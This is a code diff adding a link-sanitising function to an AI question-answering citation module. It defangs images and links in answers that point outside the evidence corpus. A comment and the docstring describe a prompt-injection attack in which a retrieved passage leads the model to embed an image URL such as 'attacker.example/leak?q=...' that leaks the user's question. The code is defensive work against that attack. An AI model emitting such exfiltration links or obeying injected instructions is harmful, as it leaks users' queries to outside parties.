@@ -62,8 +62,8 @@ class LocatedChunk(Protocol):
     def url(self) -> str | None: ...
 
 __all__ = [
-    "HEADING_SEPARATOR", "Citation", "SettledCitations", "citation_uri", "format_citation", "marker_positions",
-    "settle_citations", "split_cited_sentences",
+    "HEADING_SEPARATOR", "Citation", "InertLink", "InertText", "SettledCitations", "citation_uri", "evidence_documents",
+    "format_citation", "inert_links", "marker_positions", "settle_citations", "split_cited_sentences",
 ]
 
 # Joins a heading path (outermost first) in citations: ``guide.md#Install > Linux``.
@@ -367,3 +367,230 @@ def settle_answer(
             uncited=settled.uncited,
         )
     return settled.model_text, settled.cited_ids
+
+
+# ---------------------------------------------------------------------- links in an answer
+# A retrieved passage can tell the model to put an image or a link in its answer whose address
+# carries the question ("![x](https://attacker.example/leak?q=...)"): a client that renders the
+# answer as Markdown fetches the image, or the reader clicks the link, and the address leaks.
+# :func:`inert_links` leaves only the links a user can trust: to a document of the answer's
+# evidence, or to a host the operator allows.
+# a label may run over lines, not over a blank line (which ends the paragraph)
+_LABEL = r"(?:\\.|\[(?:\\.|[^\[\]\\\n]|\n(?![ \t]*\n))*\]|[^\[\]\\\n]|\n(?![ \t]*\n))*"
+_DEST = r"<[^<>\n]*>|[^\s()<>]*(?:\([^\s()]*\)[^\s()<>]*)*"
+_TITLE = r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?"
+_INLINE_RE = re.compile(rf"(?<!\\)(?P<bang>!?)\[(?P<label>{_LABEL})\]\(\s*(?P<dest>{_DEST}){_TITLE}\s*\)")
+_REF_USE_RE = re.compile(rf"(?<!\\)(?P<bang>!?)\[(?P<label>{_LABEL})\](?:\[(?P<ref>[^\[\]\n]*)\])?(?![(:\[])")
+_REF_DEF_RE = re.compile(rf"^ {{0,3}}\[(?P<ref>[^\[\]\n]+)\]:[ \t]*(?P<dest><[^<>\n]*>|\S+){_TITLE}[ \t]*$\n?", re.M)
+_AUTOLINK_RE = re.compile(r"<(?P<dest>[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*|[\w.!#$%&'*+/=?^`{|}~-]+@[\w.-]+)>")
+_HTML_RE = re.compile(r"<(?P<tag>[A-Za-z][\w-]*)\b[^<>]*?\b(?:src|href|srcset|poster|action|data)\s*=\s*"
+                      r"(?P<q>[\"']?)(?P<dest>[^\"'\s<>]*)(?P=q)[^<>]*>", re.I)
+_BARE_RE = re.compile(r"(?<![\w@/.\x00-])(?:(?:https?|ftp)://|www\.)[^\s<>\"'`\x00]+", re.I)
+_TRAILING = ".,;:!?*_~'\")]"
+_KEPT_RE = re.compile(r"\x00(\d+)\x00")
+
+
+@dataclass(frozen=True)
+class InertLink:
+    """A link or image :func:`inert_links` made inert: its ``kind`` (``image``, ``link``,
+    ``autolink``, ``url``, ``html``), the address as the answer gave it, and its host (or scheme)."""
+
+    kind: str
+    target: str
+    host: str
+
+    @property
+    def reason(self) -> str:
+        what = "showed an image from" if self.kind == "image" else "linked to"
+        return f"the answer {what} an address outside the corpus: {self.host}"
+
+    def to_dict(self) -> dict[str, str]:
+        return {"kind": self.kind, "target": self.target, "host": self.host, "reason": self.reason}
+
+
+@dataclass(frozen=True)
+class InertText:
+    """An answer after :func:`inert_links`: its text and what was made inert, in order."""
+
+    text: str
+    removed: list[InertLink] = field(default_factory=list)
+
+
+def _host_of(target: str) -> str:
+    parsed = urlparse(target.strip())
+    host = (parsed.hostname or "").rstrip(".").lower()
+    if host:
+        return host
+    if "@" in target and not parsed.scheme:
+        return target.rpartition("@")[2].lower()
+    if parsed.scheme:
+        return f"{parsed.scheme.lower()}:"
+    return parsed.path[:60] or "?"  # a relative address: its path, without the query
+
+
+def _defanged(target: str) -> str:
+    """``target`` as text no renderer makes a link of: the host with its dots as ``[.]``, and
+    ``/…`` for whatever followed it (a path or query can carry the question)."""
+    host = _host_of(target).replace(".", "[.]")
+    rest = urlparse(target.strip())
+    if not rest.hostname:
+        return host + ("…" if rest.query or rest.fragment else "")
+    more = bool(rest.path.strip("/") or rest.query or rest.fragment)
+    return host + ("/…" if more else "")
+
+
+def _unquoted(target: str) -> str:
+    from urllib.parse import unquote
+
+    target = target.strip()
+    if target.startswith("<") and target.endswith(">"):
+        target = target[1:-1]
+    return unquote(target).split("#", 1)[0].rstrip("/")
+
+
+class _LinkPolicy:
+    """Which addresses an answer may link to: its evidence's documents and the allowed hosts."""
+
+    def __init__(self, documents: Sequence[str], allow_hosts: Sequence[str]) -> None:
+        self.documents = {_unquoted(d) for d in documents if d and d.strip()}
+        self.documents |= {d.removeprefix("./") for d in self.documents}
+        self.paths = {d for d in self.documents if not urlparse(d).scheme}
+        self.hosts = {h.strip().lower().rstrip(".") for h in allow_hosts if h and h.strip()}
+
+    def allows(self, target: str) -> bool:
+        plain = _unquoted(target)
+        if plain in self.documents or plain.removeprefix("./") in self.documents:
+            return True
+        parsed = urlparse(plain)
+        if parsed.scheme.lower() == "file" and any(parsed.path.endswith("/" + p) for p in self.paths):
+            return True
+        host = (parsed.hostname or "").rstrip(".").lower()
+        if not host or parsed.scheme.lower() not in ("http", "https", ""):
+            return False
+        return any(host == h or (h.startswith("*.") and host.endswith(h[1:])) for h in self.hosts)
+
+
+def evidence_documents(evidence: Sequence[Any]) -> list[str]:
+    """The documents an answer may link to: each evidence passage's address (``url``) and its
+    file (``path``), from ``SearchHit``s, chunks or their ``to_dict()`` forms."""
+    out: list[str] = []
+    for hit in evidence:
+        c = Citation.from_hit(hit) if isinstance(hit, dict) or hasattr(hit, "chunk") else Citation.from_chunk(hit)
+        out += [d for d in (c.url, c.path) if d]
+    return out
+
+
+def inert_links(text: str, documents: Sequence[str] = (), allow_hosts: Sequence[str] = ()) -> InertText:
+    """``text`` with every Markdown image and link to an address outside the corpus made inert.
+
+    ``documents`` are what the answer may link to (:func:`evidence_documents`: its evidence's
+    ``url`` and ``path``, a ``#fragment`` aside); ``allow_hosts`` the operator's hosts (exact,
+    case-insensitive; ``*.example.org`` allows its subdomains). Anything else is made inert: an
+    image (inline ``![alt](…)``, reference ``![alt][ref]``, or an HTML tag) becomes
+    ``[image: alt]``; a link (inline, reference-style, ``<autolink>``, a bare ``https://``/
+    ``www.`` address, an HTML tag) becomes its label with the host as plain text,
+    ``label (attacker[.]example/…)``: the host with its dots as ``[.]`` and the path and query
+    (where the question would leak) left out. A reference definition to an outside address is
+    removed. Text with nothing to make inert is returned unchanged.
+
+    The edits are made on the text as written (the answer keeps its layout); then the result is
+    parsed with markdown-it (CommonMark) and, should a link or image it finds still point outside
+    (syntax the edits did not foresee), every ``[``, ``]``, ``<`` and ``>`` is escaped so that
+    no link or image can form.
+
+    Example:
+        >>> r = inert_links("See ![x](https://attacker.example/leak?q=secret) and [the guide](guide.md).",
+        ...                 documents=["guide.md"])
+        >>> r.text
+        'See [image: x] and [the guide](guide.md).'
+        >>> [x.reason for x in r.removed]
+        ['the answer showed an image from an address outside the corpus: attacker.example']
+    """
+    if not text or not any(s in text for s in ("[", "<", "://", "www.", "WWW.")):
+        return InertText(text)
+    policy = _LinkPolicy(documents, allow_hosts)
+    removed: list[InertLink] = []
+    kept: list[str] = []
+
+    def keep(original: str) -> str:
+        kept.append(original)
+        return f"\x00{len(kept) - 1}\x00"
+
+    def drop(kind: str, target: str, label: str, image: bool) -> str:
+        target = target.strip().removeprefix("<").removesuffix(">")
+        removed.append(InertLink("image" if image else kind, target, _host_of(target)))
+        label = label.strip()
+        if image:
+            return f"[image: {label}]" if label else "[image]"
+        return f"{label} ({_defanged(target)})" if label else _defanged(target)
+
+    def inline(m: re.Match[str]) -> str:
+        if policy.allows(m.group("dest")):
+            return keep(m.group(0))
+        return drop("link", m.group("dest"), m.group("label"), bool(m.group("bang")))
+
+    defs: dict[str, str] = {}
+    for m in _REF_DEF_RE.finditer(text):
+        defs.setdefault(" ".join(m.group("ref").split()).lower(), m.group("dest"))
+    bad = {ref: dest for ref, dest in defs.items() if not policy.allows(dest)}
+
+    def reference(m: re.Match[str]) -> str:
+        ref = m.group("ref") or m.group("label")
+        dest = bad.get(" ".join(ref.split()).lower())
+        if dest is None:
+            return m.group(0)
+        return drop("link", dest, m.group("label"), bool(m.group("bang")))
+
+    def definition(m: re.Match[str]) -> str:
+        return "" if " ".join(m.group("ref").split()).lower() in bad else m.group(0)
+
+    def autolink(m: re.Match[str]) -> str:
+        dest = m.group("dest")
+        return keep(m.group(0)) if policy.allows(dest) else drop("autolink", dest, "", False)
+
+    def html(m: re.Match[str]) -> str:
+        if policy.allows(m.group("dest")):
+            return m.group(0)
+        alt = re.search(r"\balt\s*=\s*([\"'])(.*?)\1", m.group(0), re.I)
+        if m.group("tag").lower() == "img":
+            return drop("html", m.group("dest"), alt.group(2) if alt else "", True)
+        removed.append(InertLink("html", m.group("dest"), _host_of(m.group("dest"))))
+        return ""
+
+    def bare(m: re.Match[str]) -> str:
+        url = m.group(0)
+        body = url.rstrip(_TRAILING)
+        tail = url[len(body):]
+        if policy.allows(body if "://" in body else "http://" + body):
+            return url
+        return drop("url", body if "://" in body else "http://" + body, "", False) + tail
+
+    out = text
+    for _ in range(3):  # a link around an image: the image first, then the link around it
+        before = out
+        out = _INLINE_RE.sub(inline, out)
+        out = _REF_USE_RE.sub(reference, out)
+        if out == before:
+            break
+    out = _REF_DEF_RE.sub(definition, out)
+    out = _HTML_RE.sub(html, out)
+    out = _AUTOLINK_RE.sub(autolink, out)
+    out = _BARE_RE.sub(bare, out)
+    while _KEPT_RE.search(out):
+        out = _KEPT_RE.sub(lambda m: kept[int(m.group(1))], out)
+    if _outside_links(out, policy):
+        out = re.sub(r"([\[\]<>])", r"\\\1", out)
+    return InertText(out if removed or out != text else text, removed)
+
+
+def _outside_links(text: str, policy: _LinkPolicy) -> bool:
+    """Whether a CommonMark renderer would still find a link or image to an outside address in ``text``."""
+    from markdown_it import MarkdownIt
+
+    tokens = MarkdownIt("commonmark").parse(text)
+    for block in tokens:
+        for tok in block.children or []:
+            target = tok.attrs.get("href") if tok.type == "link_open" else tok.attrs.get("src")
+            if tok.type in ("link_open", "image") and not policy.allows(str(target or "")):
+                return True
+    return False
